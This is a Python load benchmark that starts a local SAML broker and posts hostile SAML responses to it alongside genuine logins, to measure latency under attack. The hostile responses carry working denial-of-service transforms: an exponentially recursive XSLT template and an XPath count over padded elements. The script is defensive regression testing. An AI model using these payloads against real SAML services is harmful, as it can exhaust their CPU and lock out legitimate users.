"""Hostile SAML ACS posts beside genuine logins and /healthz, against a real `sts-broker serve` process.

    python -m bench.acs_attack            (make bench runs it)

The attack (issue 11, finding 1): a genuine pysaml2-signed response whose assertion's signature Reference
gains a transform xmlsec runs while verifying, before anything is known to be signed: an XSLT transform
(a named template calling itself twice, 2^depth calls) or an XPath transform (`count(//. | //@* |
//namespace::*)` over a few dozen empty elements in saml:Advice). Each is posted with a fresh AuthnRequest
ID from GET /login/{idp} (and its cookie), which is all the broker asks of an unauthenticated caller. The
payloads are kept small: sized at start (calibrate) so that one post costs the idle broker about COST_WANTED
seconds, within fixed maxima, so one post cannot freeze the run for minutes; a broker that no longer runs
the transforms answers fast whatever the size, and calibration stops growing them at once. Every request is bounded
by a timeout and the run by its phases.

Load, open loop (each request is timed from when it was due, so a stalled server cannot hide the requests
it kept waiting): GET /healthz at HEALTH_RATE per second and genuine SAML logins (a response pysaml2 signed
for an AuthnRequest the broker sent, POSTed to the ACS, answered 303) at LOGIN_RATE per second, in phases
of PHASE_SECONDS: quiet, attack (the same plus HOSTILE_RATE hostile posts per second, from another loopback
address, 127.0.0.2, as an attacker has its own), quiet, attack. The figures are the p50/p99 of each
series in each condition, and the ratio attack/quiet of the p99s. Target: within 2x (PASS/MISS).
Only a failed set-up or genuine logins refused for another reason than a timeout fail the run.
"""

from __future__ import annotations

import base64
import contextlib
import os
import secrets
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
from lxml import etree  # type: ignore[import-untyped]

from bench.token_exchange import process, wait_for
from broker.devstack.dev_saml_idp import DevSamlIdp, saml_idp_config
from broker.devstack.local_aws import LocalAws
from broker.devstack.servers import LOOPBACK, free_port
from broker.devstack.stack import DEMO_RULES, SECRET_ENV, write_config

IDP = "corp"
PHASE_SECONDS = 8.0
ROUNDS = 3  # quiet, attack, quiet, attack, quiet, attack
HEALTH_RATE, LOGIN_RATE, HOSTILE_RATE = 10.0, 2.0, 1.0
# Sizes to start from; calibrate() grows them (bounded) until one post costs the idle broker COST_WANTED.
XSLT_DEPTH, XSLT_DEPTH_MAX = 15, 18  # 2^depth template calls
XPATH_ELEMENTS, XPATH_ELEMENTS_MAX = 24, 80
COST_WANTED = 0.5  # seconds
CHEAP = 0.05  # seconds: a post refused before xmlsec runs anything
TIMEOUT = 30.0
DRAIN_SECONDS = 30.0  # after an attack phase, wait (at most this long) for hostile posts still in flight
TARGET_RATIO = 2.0
WARM_UP = 4  # genuine logins before the measured phases
ATTACKER = "127.0.0.2"
DS, SAML = "http://www.w3.org/2000/09/xmldsig#", "urn:oasis:names:tc:SAML:2.0:assertion"
XSL = "http://www.w3.org/1999/XSL/Transform"
REQUEST_PLACEHOLDER = "ONELOGIN_" + "0" * 40


# ---- the hostile responses ------------------------------------------------------------------------------


def _transforms(root: etree._Element) -> etree._Element:
    return root.find(f"{{{SAML}}}Assertion/{{{DS}}}Signature/{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}Transforms")


def xslt_recursion(root: etree._Element, depth: int = XSLT_DEPTH) -> None:
    transform = etree.Element(f"{{{DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    call = '<xsl:call-template name="r"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>'
    transform.append(etree.fromstring(
        f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0"><xsl:template match="/">'
        f'<xsl:call-template name="r"><xsl:with-param name="n" select="{depth}"/></xsl:call-template>'
        f'</xsl:template><xsl:template name="r"><xsl:param name="n"/><xsl:if test="$n &gt; 0">{call}{call}'
        f'</xsl:if></xsl:template></xsl:stylesheet>'))
    _transforms(root).insert(0, transform)


def xpath_count(root: etree._Element, elements: int = XPATH_ELEMENTS) -> None:
    transform = etree.Element(f"{{{DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(transform, f"{{{DS}}}XPath").text = "count(//. | //@* | //namespace::*)"
    _transforms(root).insert(0, transform)
    advice = etree.Element(f"{{{SAML}}}Advice")
    for _ in range(elements):
        etree.SubElement(advice, "{urn:bench}e")
    root.find(f"{{{SAML}}}Assertion/{{{SAML}}}Conditions").addnext(advice)


def hostile_template(idp: DevSamlIdp, acs: str, entity: str, shape: Callable[[etree._Element], None]) -> str:
    """A genuine response for a placeholder request ID, with the hostile transform; the ID is replaced per
    post (the signature fails anyway, but only after xmlsec has run the transform)."""
    root = etree.fromstring(idp.response_xml("alice", in_response_to=REQUEST_PLACEHOLDER, destination=acs,
                                             sp_entity_id=entity).encode())
    shape(root)
    data: bytes = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    return data.decode()


# ---- the broker under test --------------------------------------------------------------------------------


@dataclass
class Target:
    url: str
    idp: DevSamlIdp

    @property
    def acs(self) -> str:
        return f"{self.url}/saml/{IDP}/acs"

    @property
    def entity(self) -> str:
        return f"{self.url}/saml/{IDP}/metadata"


@contextmanager
def broker(work: Path) -> Iterator[Target]:
    """`sts-broker serve` with one SAML IdP (the pysaml2 dev IdP's certificate, inline): its own process."""
    port, dead = free_port(), f"http://{LOOPBACK}:{free_port()}"
    url = f"http://{LOOPBACK}:{port}"
    idp = DevSamlIdp(f"http://{LOOPBACK}:{free_port()}", work / "idp")
    config = write_config(work / "broker", url, dead, LocalAws(dead, dead, "123456789012"), DEMO_RULES,
                          {IDP: saml_idp_config(IDP, idp.url, idp.certificate)},
                          {"rate_limits": {"login_starts": 10**6, "acs_posts": 10**6}})
    from broker.config import load_settings
    from broker.connectors.saml import SamlConnector
    from broker.connectors.saml_config import SamlIdpConfig

    env = {SECRET_ENV: secrets.token_urlsafe(48), "DEV_IDP_CLIENT_SECRET": secrets.token_urlsafe(24)}
    os.environ.update(env)
    load_settings(config)  # fail here, with the problem, rather than as a server that never answers
    idp.trust_sp([SamlConnector(SamlIdpConfig.model_validate(saml_idp_config(IDP, idp.url, idp.certificate)),
                                url, None).sp_metadata()])
    args = [sys.executable, "-m", "broker", "serve", "--config", str(config), "--host", LOOPBACK, "--port", str(port)]
    with process(args, env):
        wait_for(f"{url}/healthz")
        yield Target(url, idp)


def start_login(client: httpx.Client, target: Target) -> tuple[str, str]:
    """GET /login/{idp}: the AuthnRequest ID (read as the IdP reads it) and the cookie that binds it."""
    response = client.get(f"{target.url}/login/{IDP}")
    if response.status_code != 303:
        raise RuntimeError(f"/login/{IDP} answered {response.status_code}")
    query = parse_qs(urlsplit(response.headers["location"]).query)
    request_id = str(etree.fromstring(zlib.decompress(base64.b64decode(query["SAMLRequest"][0]), -15)).get("ID"))
    return request_id, str(response.cookies.get("sts_broker_saml"))


@dataclass(frozen=True)
class Login:
    cookie: str
    body: str  # the form, SAMLResponse already base64


def genuine_logins(target: Target, count: int) -> list[Login]:
    """Each: an AuthnRequest the broker sent, and the response pysaml2 signs for it (through xmlsec1: about
    0.1 s each, so signed before the phases, two at a time)."""
    with httpx.Client(timeout=TIMEOUT) as client:
        started = [start_login(client, target) for _ in range(count)]

    def sign(started: tuple[str, str]) -> Login:
        xml = target.idp.response_xml("alice", in_response_to=started[0], destination=target.acs,
                                      sp_entity_id=target.entity)
        return Login(started[1], str(httpx.QueryParams({"SAMLResponse": base64.b64encode(xml.encode()).decode()})))

    with ThreadPoolExecutor(max_workers=2) as pool:
        return list(pool.map(sign, started))


# ---- open-loop load ------------------------------------------------------------------------------------


@dataclass
class Series:
    latencies: list[float] = field(default_factory=list)  # seconds, from when each request was due
    statuses: dict[str, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, latency: float, status: str) -> None:
        with self.lock:
            self.latencies.append(latency)
            self.statuses[status] = self.statuses.get(status, 0) + 1

    def pct(self, p: float) -> float:
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(p / 100 * len(ordered)))] * 1000 if ordered else float("nan")


_local = threading.local()


def _client(local_address: str | None = None) -> httpx.Client:
    """One client per worker thread (and per source address)."""
    key = f"client_{local_address}"
    client: httpx.Client | None = getattr(_local, key, None)
    if client is None:
        transport = httpx.HTTPTransport(local_address=local_address) if local_address else None
        client = httpx.Client(timeout=TIMEOUT, transport=transport)
        setattr(_local, key, client)
    return client


def _timed(series: Series, due: float, call: Callable[[], httpx.Response], expect: int | None) -> None:
    """expect: the status that counts as "ok"; None: any refusal (4xx) does."""
    try:
        status = call().status_code
        label = "ok" if status == expect or (expect is None and 400 <= status < 500) else str(status)
    except httpx.TimeoutException:
        label = "timeout"
    except httpx.HTTPError as exc:
        label = type(exc).__name__
    series.add(time.monotonic() - due, label)


def _schedule(pool: ThreadPoolExecutor, rate: float, until: float, job: Callable[[float], None]) -> list[Future[None]]:
    """Submit job(due) at a steady rate until `until`; the pool's threads do the waiting for answers."""
    futures, due = [], time.monotonic()
    while due < until:
        delay = due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        futures.append(pool.submit(job, due))
        due += 1.0 / rate
    return futures


@dataclass
class Condition:
    health: Series = field(default_factory=Series)
    login: Series = field(default_factory=Series)


def merged(conditions: list[Condition]) -> Condition:
    out = Condition()
    for c in conditions:
        for mine, theirs in ((out.health, c.health), (out.login, c.login)):
            mine.latencies += theirs.latencies
            for label, n in theirs.statuses.items():
                mine.statuses[label] = mine.statuses.get(label, 0) + n
    return out


@dataclass
class Attack:
    templates: list[str]
    posts: Series = field(default_factory=Series)
    sent: int = 0


def phase(target: Target, logins: Iterator[Login], condition: Condition, attack: Attack | None,
          seconds: float = PHASE_SECONDS) -> None:
    until = time.monotonic() + seconds

    def health(due: float) -> None:
        _timed(condition.health, due, lambda: _client().get(f"{target.url}/healthz"), 200)

    def login(due: float) -> None:
        one = next(logins)
        _timed(condition.login, due, lambda: _client().post(
            target.acs, content=one.body, headers={"Content-Type": "application/x-www-form-urlencoded",
                                                   "Cookie": f"sts_broker_saml={one.cookie}"}), 303)

    def hostile(due: float) -> None:
        assert attack is not None
        client = _client(ATTACKER)
        request_id, cookie = start_login(client, target)
        xml = attack.templates[attack.sent % len(attack.templates)].replace(REQUEST_PLACEHOLDER, request_id)
        attack.sent += 1
        data = {"SAMLResponse": base64.b64encode(xml.encode()).decode()}
        _timed(attack.posts, due, lambda: client.post(target.acs, data=data,
                                                      cookies={"sts_broker_saml": cookie}), None)

    with ThreadPoolExecutor(max_workers=64) as pool:
        jobs = [threading.Thread(target=_schedule, args=(pool, HEALTH_RATE, until, health)),
                threading.Thread(target=_schedule, args=(pool, LOGIN_RATE, until, login))]
        if attack is not None:
            jobs.append(threading.Thread(target=_schedule, args=(pool, HOSTILE_RATE, until, hostile)))
        for job in jobs:
            job.start()
        for job in jobs:
            job.join(PHASE_SECONDS + 5)
        pool.shutdown(wait=True, cancel_futures=False)  # every request is bounded by TIMEOUT
    if attack is not None:
        _drain(target)


def _drain(target: Target) -> None:
    """Wait (bounded) until /healthz answers fast again, so the next quiet phase starts quiet."""
    deadline = time.monotonic() + DRAIN_SECONDS
    while time.monotonic() < deadline:
        started = time.monotonic()
        with contextlib.suppress(httpx.HTTPError):
            _client().get(f"{target.url}/healthz")
        if time.monotonic() - started < 0.05:
            return
        time.sleep(0.2)


def calibrate(target: Target, shape: Callable[[etree._Element, int], None], size: int, limit: int,
              grow: Callable[[int], int]) -> tuple[str, int, float]:
    """The hostile template, its size and its cost: grown until a post costs COST_WANTED, the size hits its
    limit, or a post is cheap whatever its size (the broker does not run the transform)."""
    def build(n: int) -> str:
        return hostile_template(target.idp, target.acs, target.entity, lambda root: shape(root, n))

    template = build(size)
    cost = hostile_cost(target, template)
    while cost < COST_WANTED and grow(size) <= limit:
        bigger = build(grow(size))
        bigger_cost = hostile_cost(target, bigger)
        if bigger_cost < CHEAP:  # refused before the transform runs (a fixed broker): no point growing it
            break
        template, size, cost = bigger, grow(size), bigger_cost
    return template, size, cost


def hostile_cost(target: Target, template: str, tries: int = 2) -> float:
    """Seconds the idle broker takes to refuse one hostile post (what each one costs it): the best of a few,
    as a busy machine only ever adds to it."""
    client, best = _client(ATTACKER), float("inf")
    for _ in range(tries):
        request_id, cookie = start_login(client, target)
        xml = template.replace(REQUEST_PLACEHOLDER, request_id)
        started = time.monotonic()
        client.post(target.acs, data={"SAMLResponse": base64.b64encode(xml.encode()).decode()},
                    cookies={"sts_broker_saml": cookie})
        best = min(best, time.monotonic() - started)
    return best


# ---- report --------------------------------------------------------------------------------------------


def _row(name: str, s: Series) -> str:
    errors = sum(n for label, n in s.statuses.items() if label != "ok")
    worst = max(s.latencies, default=float("nan")) * 1000
    return f"{name:<30}{len(s.latencies):>6}{s.pct(50):>10.1f}{s.pct(99):>10.1f}{worst:>10.1f}{errors:>8}"


def report(quiet: Condition, attacked: Condition, attack: Attack, costs: dict[str, float]) -> bool:
    print(f"acs attack: hostile posts at {HOSTILE_RATE:.0f}/s beside logins at {LOGIN_RATE:.0f}/s and /healthz at "
          f"{HEALTH_RATE:.0f}/s, {ROUNDS} x {PHASE_SECONDS:.0f} s per condition, one `sts-broker serve` process")
    print("one hostile post on the idle broker: " + ", ".join(f"{k} {v * 1000:.0f} ms" for k, v in costs.items()))
    print(f"{'':<30}{'n':>6}{'p50 ms':>10}{'p99 ms':>10}{'max ms':>10}{'errors':>8}")
    print(_row("/healthz, quiet", quiet.health))
    print(_row("/healthz, under attack", attacked.health))
    print(_row("genuine login, quiet", quiet.login))
    print(_row("genuine login, under attack", attacked.login))
    answers = dict(sorted(attack.posts.statuses.items()))
    print(_row("hostile posts (refused: 4xx)", attack.posts) + f"   answers: {answers}")
    ratios = {"/healthz": attacked.health.pct(99) / quiet.health.pct(99),
              "login": attacked.login.pct(99) / quiet.login.pct(99)}
    ok = all(r <= TARGET_RATIO for r in ratios.values())
    print("p99 under attack / quiet: " + ", ".join(f"{k} {v:.2f}" for k, v in ratios.items()) +
          f"   (target <= {TARGET_RATIO:.1f}): {'PASS' if ok else 'MISS'}")
    # Genuine logins refused for another reason than a timeout mean the bench itself is broken.
    return all(label in ("ok", "timeout") for c in (quiet, attacked) for label in c.login.statuses)


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="bench-acs-attack-") as tmp, ExitStack() as stack:
        target = stack.enter_context(broker(Path(tmp)))
        sized = {"xslt": calibrate(target, xslt_recursion, XSLT_DEPTH, XSLT_DEPTH_MAX, lambda n: n + 1),
                 "xpath": calibrate(target, xpath_count, XPATH_ELEMENTS, XPATH_ELEMENTS_MAX, lambda n: n * 5 // 4)}
        templates = {name: t for name, (t, _, _) in sized.items()}
        costs = {f"{name} ({'depth' if name == 'xslt' else 'elements'} {n}, {len(t)} bytes)": c
                 for name, (t, n, c) in sized.items()}
        per_phase = int(PHASE_SECONDS * LOGIN_RATE) + 2
        logins = iter(genuine_logins(target, per_phase * ROUNDS * 2 + WARM_UP))
        phase(target, logins, Condition(), None, seconds=WARM_UP / LOGIN_RATE)  # first-use costs, not measured
        attack = Attack(list(templates.values()))
        rounds: list[tuple[Condition, Condition]] = []
        for _ in range(ROUNDS):
            rounds.append((Condition(), Condition()))
            phase(target, logins, rounds[-1][0], None)
            phase(target, logins, rounds[-1][1], attack)
        good = report(merged([q for q, _ in rounds]), merged([a for _, a in rounds]), attack, costs)
        print("p99 per round (quiet -> attack), /healthz: " + ", ".join(
            f"{q.health.pct(99):.0f} -> {a.health.pct(99):.0f} ms" for q, a in rounds) + "; login: " + ", ".join(
            f"{q.login.pct(99):.0f} -> {a.login.pct(99):.0f} ms" for q, a in rounds))
    return 0 if good else 1


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
    sys.exit(main())
